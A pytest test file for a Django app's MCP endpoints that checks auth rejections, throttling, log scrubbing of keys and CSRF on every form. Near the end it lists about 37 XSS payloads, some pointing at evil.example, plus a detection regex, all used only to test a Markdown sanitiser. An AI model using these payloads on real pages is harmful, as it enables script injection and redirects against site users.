"""Auth and abuse: every way in without the right credentials is answered 401/403 (or sent to the login page),
guessing is throttled (keys at the MCP endpoints, passwords at the login forms, client registrations), keys
never reach a log line, every form is CSRF-protected, and agent-written Markdown cannot script a page."""

from __future__ import annotations

import re
import time
from typing import Any

import httpx2
import pytest
from django.contrib.auth import get_user_model
from django.core.cache import cache
from django.template.loader import get_template
from django.test import Client
from django.urls import reverse

from accounts import throttle
from accounts.services import apikey_create, keys_revoke_all
from base.logging import ScrubSecrets, scrub
from mcp_bridge.server import run_tool
from mcp_bridge.tools import Caller
from tests.clients import ROOT
from tests.oauth.helpers import mint_token
from tests.reliability.helpers import MCP_PATHS, make_key, web_server
from webui.markdown import render_markdown

PING = '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"%s","arguments":{}}}'
LISTING = {"pillbox": "bottle_list", "todos": "list_todos"}


@pytest.fixture(autouse=True)
def _fresh_counters():
    cache.clear()  # throttle windows live in the cache
    yield
    cache.clear()


def mcp(client: Client, server: str, *, query: str = "", ip: str = "10.0.0.1", **headers: str):
    return client.post(
        MCP_PATHS[server] + query,
        data=PING % LISTING[server],
        content_type="application/json",
        REMOTE_ADDR=ip,
        **headers,
    )


def bearer(token: str) -> dict[str, str]:
    return {"HTTP_AUTHORIZATION": f"Bearer {token}"}


# ---------------------------------------------------------------- every failure mode


@pytest.mark.parametrize("server", ["pillbox", "todos"])
def test_every_credential_failure_is_a_401_or_403_with_the_challenge(alice, bob, server, settings):
    settings.AUTH_FAILURE_RATE_LIMIT = (0, 60)  # counted below, not throttled here
    site = settings.SITE_URL
    client = Client()
    here = site + MCP_PATHS[server]
    other = site + MCP_PATHS["todos" if server == "pillbox" else "pillbox"]
    revoked = get_user_model().objects.create(username="carol")
    _, revoked_key = apikey_create(user=revoked)
    keys_revoke_all(user=revoked)
    inactive = get_user_model().objects.create(username="dave", is_active=False)
    _, inactive_key = apikey_create(user=inactive)
    cases: list[tuple[str, dict[str, str], str, int, str | None]] = [
        ("nothing", {}, "", 401, None),
        ("a wrong key", bearer("pbx_" + "x" * 43), "", 401, "invalid_token"),
        ("a revoked key", bearer(revoked_key), "", 401, "invalid_token"),
        ("an inactive user's key", bearer(inactive_key), "", 401, "invalid_token"),
        ("an unknown token", bearer("not-a-token"), "", 401, "invalid_token"),
        ("basic auth", {"HTTP_AUTHORIZATION": "Basic YWxpY2U6cGFzcw=="}, "", 401, "invalid_token"),
        ("an empty bearer", {"HTTP_AUTHORIZATION": "Bearer "}, "", 401, "invalid_token"),
        ("uid without key", {}, f"?uid={alice.uid}", 401, "invalid_token"),
        ("key without uid", {}, f"?key={alice.key}", 401, "invalid_token"),
        ("someone else's uid", {}, f"?uid={bob.uid}&key={alice.key}", 401, "invalid_token"),
        ("a wrong key for the uid", {}, f"?uid={alice.uid}&key=pbx_nope", 401, "invalid_token"),
        ("a token for the other endpoint", bearer(mint_token(alice.user, resource=[other])), "", 401, "invalid_token"),
        ("a token without resource", bearer(mint_token(alice.user, resource=[])), "", 401, "invalid_token"),
        ("an expired token", bearer(mint_token(alice.user, resource=[here], expires_in=-10)), "", 401, "invalid_token"),
        (
            "a token without the mcp scope",
            bearer(mint_token(alice.user, resource=[here], scope="read")),
            "",
            403,
            "insufficient_scope",
        ),
    ]
    for label, headers, query, status, error in cases:
        response = mcp(client, server, query=query, **headers)
        assert response.status_code == status, (label, response.status_code, response.content)
        challenge = response["WWW-Authenticate"]
        assert challenge.startswith("Bearer ") and "resource_metadata=" in challenge, (label, challenge)
        assert f"/.well-known/oauth-protected-resource{MCP_PATHS[server]}" in challenge, (label, challenge)
        if error:
            assert f'error="{error}"' in challenge, (label, challenge)
        else:
            assert "error=" not in challenge, (label, challenge)
        assert alice.key not in response.content.decode() and "Traceback" not in response.content.decode()
    for good in (bearer(alice.key), bearer(mint_token(alice.user, resource=[here]))):
        assert mcp(client, server, **good).status_code == 200
    assert mcp(client, server, query=f"?uid={alice.uid}&key={alice.key}").status_code == 200


def test_pages_send_strangers_to_the_login_page_or_refuse_them(alice, bob):
    anonymous = Client()
    for path in ("/account/", "/pillbox/", "/pillbox/capsules/", "/pillbox/search?q=x", "/list"):
        response = anonymous.get(path)
        assert response.status_code == 302 and response["Location"].startswith("/accounts/login/"), path
    assert anonymous.get("/admin/").status_code == 302
    person = Client()
    person.force_login(bob.user)
    assert person.get("/admin/").status_code == 302  # not staff: the admin's own login page
    for query in (f"?uid={alice.uid}&key=pbx_wrong", f"?uid={bob.uid}&key={alice.key}", "?t=forged.token:1x"):
        response = person.get("/list" + query)  # bad credentials are refused even with a session
        assert response.status_code == 403, query


# ---------------------------------------------------------------- throttling


def test_repeated_bad_keys_from_one_address_are_throttled(alice, settings):
    settings.AUTH_FAILURE_RATE_LIMIT = (5, 60)
    client = Client()
    for attempt in range(5):
        assert mcp(client, "pillbox", **bearer(f"pbx_guess{attempt}")).status_code == 401
    refused = mcp(client, "todos", **bearer("pbx_guess-again"))
    assert refused.status_code == 429
    assert 1 <= int(refused["Retry-After"]) <= 60
    assert refused.json()["error"] == "rate_limited"
    # Guesses stay refused, but a right key from the same address always passes: one stranger behind a shared
    # proxy address must not lock everyone out (keys are unguessable; only failures are counted).
    assert mcp(client, "pillbox", **bearer("pbx_guess-more")).status_code == 429
    assert mcp(client, "pillbox", **bearer(alice.key)).status_code == 200
    assert mcp(client, "pillbox", query=f"?uid={alice.uid}&key={alice.key}").status_code == 200


def test_requests_without_credentials_are_not_counted_as_guesses(alice, settings):
    settings.AUTH_FAILURE_RATE_LIMIT = (3, 60)
    client = Client()
    for _ in range(10):  # MCP clients probe without credentials to discover OAuth
        assert mcp(client, "pillbox").status_code == 401
    assert mcp(client, "pillbox", **bearer(alice.key)).status_code == 200


class _Clock:
    """A settable ``time`` for accounts.throttle alone (the cache's own expiry keeps the real clock)."""

    def __init__(self, now: float) -> None:
        self.now = now

    def time(self) -> float:
        return self.now


class _Address:
    META = {"REMOTE_ADDR": "203.0.113.7"}


def test_a_burst_across_a_minute_boundary_is_still_one_burst(monkeypatch):
    """A bucket opens at its first failure: failures just before a clock minute and one just after count
    together (a clock-aligned window restarted at the minute, letting a burst through at twice the limit)."""
    boundary = (int(time.time()) // 60 + 1) * 60.0
    clock = _Clock(boundary - 0.5)
    monkeypatch.setattr(throttle, "time", clock)
    for _ in range(3):
        assert throttle.failure(_Address(), kind="burst", limit=(3, 60), identity="erin") == 0
    clock.now = boundary + 0.5
    assert throttle.exhausted(_Address(), kind="burst", limit=(3, 60), identity="erin") == 59
    assert throttle.failure(_Address(), kind="burst", limit=(3, 60), identity="erin") == 59
    clock.now = boundary + 59.4
    assert throttle.exhausted(_Address(), kind="burst", limit=(3, 60)) == 1


def _login(client: Client, path: str, username: str, password: str, ip: str = "10.0.0.1"):
    return client.post(path, {"username": username, "password": password}, REMOTE_ADDR=ip)


@pytest.mark.parametrize("path", ["/accounts/login/", "/admin/login/"])
def test_failed_logins_are_throttled(transactional_db, settings, path):
    settings.LOGIN_RATE_LIMIT = (3, 60)
    user = get_user_model().objects.create_user("erin", password="correct horse battery", is_staff=True)
    client = Client()
    for _ in range(3):
        assert _login(client, path, "erin", "wrong").status_code == 200  # the form again, with its error
    refused = _login(client, path, "erin", "correct horse battery")
    assert refused.status_code == 429 and 1 <= int(refused["Retry-After"]) <= 60
    assert "_auth_user_id" not in client.session
    # The account's bucket is full too: a new browser elsewhere waits as well (passwords can be guessed) ...
    assert _login(Client(), path, "erin", "correct horse battery", ip="10.0.0.9").status_code == 429
    # ... while other accounts from other addresses are untouched.
    get_user_model().objects.create_user("frank", password="another horse battery", is_staff=True)
    assert _login(Client(), path, "frank", "another horse battery", ip="10.0.0.9").status_code == 302
    assert user.pk


def test_client_registration_is_rate_limited(transactional_db, settings):
    settings.OAUTH_DCR_RATE_LIMIT = (2, 3600)
    client = Client()
    metadata = '{"client_name":"x","redirect_uris":["http://127.0.0.1:3000/cb"],"token_endpoint_auth_method":"none"}'
    statuses = [
        client.post("/o/register/", data=metadata, content_type="application/json", REMOTE_ADDR="10.0.0.3").status_code
        for _ in range(3)
    ]
    assert statuses[:2] == [201, 201] and statuses[2] == 429


# ---------------------------------------------------------------- keys never in logs


SECRETS_IN_TEXT = [
    ("GET /mcp?uid=0123&key=pbx_abcdefghijklmnopqrstuvwxyz HTTP/1.1", "pbx_abcdefghijklmnopqrstuvwxyz"),
    ("POST /pillbox/mcp?key=anything-at-all HTTP/1.1", "anything-at-all"),
    ("GET /list?t=eyJ1Ijo0fQ:1vXyZ:abcdefSIG HTTP/1.1", "eyJ1Ijo0fQ:1vXyZ:abcdefSIG"),
    ("GET /o/authorize/?code=SECRETCODE&state=x", "SECRETCODE"),
    ("POST /o/token/ refresh_token=REFRESH123&grant_type=refresh_token", "REFRESH123"),
    ("{'HTTP_AUTHORIZATION': 'Bearer tok.en.value'}", "tok.en.value"),
    ("Authorization: Basic dXNlcjpwYXNz", "dXNlcjpwYXNz"),
    ("failed with key pbx_0123456789abcdef in the message", "pbx_0123456789abcdef"),
    ("GET /mcp?uid=0123&key%3Dpbx_encodedsecret HTTP/1.1", "pbx_encodedsecret"),
]


@pytest.mark.parametrize(("text", "secret"), SECRETS_IN_TEXT)
def test_scrub_removes_every_credential(text, secret):
    assert secret not in scrub(text)
    assert "[scrubbed]" in scrub(text)


def test_scrub_leaves_ordinary_text_alone():
    for text in (
        "GET /pillbox/search?q=keys+and+tokens HTTP/1.1",
        "monkey=3 turkey=4",
        "the key is to wait",
        "GET /list?show=deleted HTTP/1.1",
    ):
        assert scrub(text) == text


def test_the_filter_scrubs_arguments_and_traces():
    import logging

    try:
        raise ValueError("bad key pbx_tracesecret123")
    except ValueError:
        import sys

        record = logging.LogRecord(
            "django.request",
            logging.ERROR,
            __file__,
            1,
            '"%s" %s',
            ("GET /mcp?key=pbx_argsecret123 HTTP/1.1", 500),
            sys.exc_info(),
        )
    assert ScrubSecrets().filter(record)
    line = logging.Formatter().format(record)
    assert "pbx_argsecret123" not in line and "pbx_tracesecret123" not in line
    assert "ValueError" in line


def test_every_configured_handler_scrubs(settings):
    """A handler without the filter would be a way around it: Django's own defaults (django.server's handler,
    the DEBUG console) are replaced."""
    import logging

    for name in ("", "django", "django.server", "django.request", "mcp_bridge", "pillbox"):
        logger = logging.getLogger(name)
        while logger is not None:
            for handler in logger.handlers:
                if type(handler).__module__.startswith("_pytest"):
                    continue  # pytest's own capture
                assert any(isinstance(f, ScrubSecrets) for f in handler.filters), (name, logger.name, handler)
            logger = logger.parent if logger.propagate else None


@pytest.mark.parametrize("kind", ["runserver", "gunicorn"])
def test_keys_never_reach_the_server_logs(tmp_path, kind):
    home = tmp_path / "home"
    uid, key = make_key(home, "logged")
    log = tmp_path / f"{kind}.log"
    # gunicorn only logs requests when asked to; the README's access-log format leaves the query string out.
    extra = {"GUNICORN_CMD_ARGS": "--access-logfile - --access-logformat '%(h)s %(t)s \"%(m)s %(U)s\" %(s)s %(b)s'"}
    with web_server(home, kind=kind, log=log, **(extra if kind == "gunicorn" else {})) as url:
        with httpx2.Client(timeout=10) as http:
            http.post(
                f"{url}/mcp?uid={uid}&key={key}",
                content=PING % "list_todos",
                headers={"Content-Type": "application/json"},
            )
            http.post(
                f"{url}/pillbox/mcp?uid={uid}&key=pbx_wrongwrongwrong",
                content="{}",
                headers={"Content-Type": "application/json"},
            )
            http.post(f"{url}/mcp", content="{", headers={"Authorization": f"Bearer {key}"})
            http.get(f"{url}/list?uid={uid}&key={key}")
            http.get(f"{url}/list?t=signed.link.token:SECRETLINK")
            http.get(f"{url}/nowhere?key={key}")
    written = log.read_text()
    assert written.strip(), "the server logged nothing: the test would prove nothing"
    assert key not in written and key.removeprefix("pbx_") not in written, written
    assert "SECRETLINK" not in written and "pbx_wrongwrongwrong" not in written, written
    assert "/list" in written and "/nowhere" in written  # the requests were logged, without their secrets


# ---------------------------------------------------------------- CSRF on every form


def _post_forms(html: str) -> list[tuple[str, str]]:
    """(action, body) of every POST form of a page."""
    forms = re.findall(r"<form\b([^>]*)>(.*?)</form>", html, re.S | re.I)
    found = []
    for attributes, body in forms:
        if re.search(r'method="post"', attributes, re.I):
            action = re.search(r'action="([^"]*)"', attributes)
            found.append(((action.group(1) if action else "").replace("&amp;", "&"), body))
    return found


def test_every_post_form_in_the_templates_carries_the_csrf_token():
    templates = sorted((ROOT / "templates").rglob("*.html"))
    checked = 0
    for path in templates:
        source = path.read_text()
        for _, body in re.findall(r"<form\b([^>]*method=\"post\"[^>]*)>(.*?)</form>", source, re.S | re.I):
            included = re.findall(r'{% include "([^"]+)"', body)
            bodies = [body, *(get_template(name).template.source for name in included)]
            assert any("{% csrf_token %}" in text for text in bodies), (
                f"{path.relative_to(ROOT)}: a POST form without {{% csrf_token %}}"
            )
            checked += 1
    assert checked >= 15


def _memory(alice: Any) -> dict[str, str]:
    caller = Caller(user=alice.user, transport="http")
    import pillbox.tools
    import todos.tools

    def ok(toolset: Any, tool: str, **arguments: Any) -> str:
        reply = run_tool(toolset, toolset.by_name[tool], caller, arguments)
        assert not reply.is_error, reply.text
        return re.search(r"^id: ([0-9a-f]{12})$", reply.text, re.M).group(1) if "id: " in reply.text else ""

    bottle = ok(pillbox.tools.TOOLSET, "bottle_create", name="csrf", display_name="CSRF", scope="global")
    rx = ok(
        pillbox.tools.TOOLSET, "prescription_open", bottle_id=bottle, title="t", author_name="a", author_email="a@b.c"
    )
    pill = ok(
        pillbox.tools.TOOLSET,
        "pill_store",
        prescription_id=rx,
        title="t",
        content="c",
        compound="x",
        author_name="a",
        author_email="a@b.c",
    )
    capsule = ok(pillbox.tools.TOOLSET, "capsule_store", title="t", content="c", compound="x")
    run_tool(
        todos.tools.TOOLSET,
        todos.tools.TOOLSET.by_name["put_todo"],
        caller,
        {"id": "csrf-todo", "name": "n", "description": "d"},
    )
    return {"bottle": bottle, "prescription": rx, "pill": pill, "capsule": capsule}


def test_every_form_refuses_a_post_without_the_csrf_token(alice):
    ids = _memory(alice)
    pages = [
        "/",
        "/list",
        "/list?show=deleted",
        "/account/",
        "/pillbox/",
        "/pillbox/capsules/",
        f"/pillbox/bottles/{ids['bottle']}/",
        f"/pillbox/prescriptions/{ids['prescription']}/",
        f"/pillbox/pills/{ids['pill']}/",
        f"/pillbox/capsules/{ids['capsule']}/",
    ]
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(alice.user)
    key_browser = Client(enforce_csrf_checks=True)  # the /list page opened with ?uid=&key=, no session
    anonymous = Client(enforce_csrf_checks=True)
    sources = [(browser, page) for page in pages]
    sources += [(key_browser, f"/list?uid={alice.uid}&key={alice.key}"), (anonymous, reverse("login"))]
    actions: set[tuple[int, str]] = set()
    for who, page in sources:
        response = who.get(page)
        assert response.status_code == 200, page
        for action, body in _post_forms(response.content.decode()):
            assert "csrfmiddlewaretoken" in body, (page, action)
            fields = dict(re.findall(r'<input[^>]*name="([^"]+)"[^>]*value="([^"]*)"', body))
            fields.pop("csrfmiddlewaretoken", None)
            target = action or page
            refused = who.post(target, fields)
            assert refused.status_code == 403, (page, target, refused.status_code)
            actions.add((id(who), target.split("?")[0]))
    assert len(actions) >= 15, actions


# ---------------------------------------------------------------- Markdown written by agents


XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<p onclick=alert(1)>x</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form action="https://evil.example"><input name=key></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example)}</style>",
    "![x](https://evil.example/track.png)",
    "![x](javascript:alert(1))",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=x onmouseover=alert(1)>x</a>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    '[a](https://ok.example "title" onclick=alert(1))',
    '<a href="https://ok.example" target=_blank>x</a>',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
]
DANGEROUS = re.compile(
    r"<\s*(script|iframe|object|embed|img|svg|math|style|link|meta|base|form|input|body|template|xmp|noscript)\b"
    r"|\son[a-z]+\s*=|javascript:|vbscript:|data:|style\s*=",
    re.I,
)


@pytest.mark.parametrize("payload", XSS)
def test_markdown_sanitiser_holds_against_known_xss(payload):
    html = str(render_markdown(payload))
    assert not DANGEROUS.search(html), html
    for href in re.findall(r'href="([^"]*)"', html):
        assert re.match(r"(https?:|mailto:|/|#|[^:]*$)", href), href
